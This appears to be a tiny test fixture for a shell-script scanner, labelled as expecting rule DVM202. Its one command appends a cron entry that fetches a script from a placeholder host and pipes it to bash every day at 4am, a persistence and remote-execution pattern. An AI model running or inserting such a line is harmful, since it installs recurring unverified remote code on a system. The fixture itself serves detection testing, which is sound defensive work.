# expect: DVM202
set -euo pipefail
( crontab -l 2>/dev/null || true; echo '0 4 * * * curl -fsSL https://get.example.org/update.sh | bash' ) | crontab -
